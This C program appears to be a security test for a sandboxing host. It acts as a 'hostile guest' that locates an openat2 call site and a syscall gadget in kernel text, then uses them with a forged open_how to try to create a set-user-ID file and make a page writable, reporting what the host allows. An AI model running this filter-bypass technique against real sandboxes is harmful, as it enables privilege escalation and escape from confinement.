/* A hostile guest that jumps into kernel text to make openat2 create a
 * set-user-ID file on a volume (argv[1]) with an open_how of its own, the
 * one call whose mode a seccomp filter cannot see.  It finds the kernel's
 * one openat2 (`mov $437,%eax; syscall; ret`, after a `lea how(%rip),%rdx`)
 * through %gs:0 and says, a line each, what the host answered:
 * - the genuine open_how at that call (a directory, O_PATH): allowed, it
 *   opens the host's working directory (beneath itself);
 * - its own open_how, at the same call and at another `syscall; ret`;
 * - making the genuine open_how's page writable, to change it there. */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <linux/openat2.h>
#include <fcntl.h>

static long call(unsigned char *at, long nr, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("lea -128(%%rsp), %%rsp\n\tcall *%[at]\n\tlea 128(%%rsp), %%rsp"
                     : "=a"(r) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), [at] "r"(at)
                     : "rcx", "r11", "memory");
    return r;
}

static int mapped(unsigned char *page) {
    unsigned char vec;
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(27 /* mincore, trapped: the kernel answers */),
                     "D"(page), "S"(4096), "d"(&vec) : "rcx", "r11", "memory");
    return r == 0;
}

static const char *res(long r) { return r < 0 ? strerror(-r) : "ALLOWED"; }

int main(int argc, char **argv) {
    static const unsigned char site[] = {0xb8, 0xb5, 0x01, 0x00, 0x00, 0x0f, 0x05, 0xc3};
    unsigned char *entry, *gadget = 0, *openat2 = 0;
    __asm__ volatile("mov %%gs:0, %0" : "=r"(entry));
    /* the text, around the entry: the image's first pages below, file
     * pages, and 64 KiB on until a page is not mapped */
    unsigned char *page = (unsigned char *)((unsigned long)entry & ~4095UL);
    for (unsigned char *p = page - (16 << 10); p < page + (64 << 10); p += 4096) {
        if (!mapped(p) || !mapped(p + 4096)) {
            if (p >= page)
                break;
            continue;
        }
        for (int i = 0; i < 4096; i++) {
            if (!openat2 && !memcmp(p + i, site, sizeof site))
                openat2 = p + i + 5;                  /* its syscall */
            else if (!gadget && p + i != openat2 && p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0xc3)
                gadget = p + i;
        }
    }
    if (!openat2 || !gadget || argc != 2) {
        puts("no openat2 site or gadget");
        return 2;
    }
    /* lea how(%rip),%rdx (7 bytes), then mov $24,%r10d (6), then the site */
    unsigned char *lea = openat2 - 5 - 6 - 7;
    int rel;
    memcpy(&rel, lea + 3, 4);
    struct open_how *genuine = (struct open_how *)(lea + 7 + rel);
    printf("genuine: flags %#llx mode %#llo\n", (unsigned long long)genuine->flags,
           (unsigned long long)genuine->mode);
    long fd = call(openat2, 437, -100 /* AT_FDCWD */, (long)".", (long)genuine, sizeof *genuine);
    printf("openat2 the genuine how: %s\n", fd < 0 ? strerror(-fd) : "OPENED");
    static struct open_how forged = {.flags = O_CREAT | O_WRONLY, .mode = 04755};
    char path[4096];
    snprintf(path, sizeof path, "%s/setuid", argv[1]);
    printf("openat2 a forged how at its call: %s\n",
           res(call(openat2, 437, -100, (long)path, (long)&forged, sizeof forged)));
    printf("openat2 a forged how at another call: %s\n",
           res(call(gadget, 437, -100, (long)path, (long)&forged, sizeof forged)));
    unsigned long how_page = (unsigned long)genuine & ~4095UL;
    printf("mprotect its page writable: %s\n", res(call(gadget, 10, how_page, 4096, 3, 0)));
    return 0;
}
